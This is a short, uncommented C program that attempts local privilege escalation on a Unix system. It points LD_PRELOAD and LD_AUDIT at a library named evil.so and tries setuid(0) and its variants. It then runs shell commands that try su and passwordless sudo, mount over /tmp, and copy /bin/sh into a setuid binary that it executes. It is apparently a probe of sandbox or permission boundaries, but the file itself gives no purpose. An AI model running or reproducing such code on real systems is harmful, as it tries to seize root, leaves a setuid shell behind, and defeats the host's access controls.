#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>
int main(void)
{
    setenv("LD_PRELOAD", "./evil.so", 1);
    setenv("LD_AUDIT", "./evil.so", 1);
    if (setuid(0) == 0 || setreuid(0, 0) == 0 || setresuid(0, 0, 0) == 0)
        puts("root");
    return system("su -c id root </dev/null 2>/dev/null; sudo -n id 2>/dev/null; mount -t tmpfs x /tmp 2>/dev/null;"
                  " cp /bin/sh x && chmod u+s x; ./x -c id -u") * 0;
}
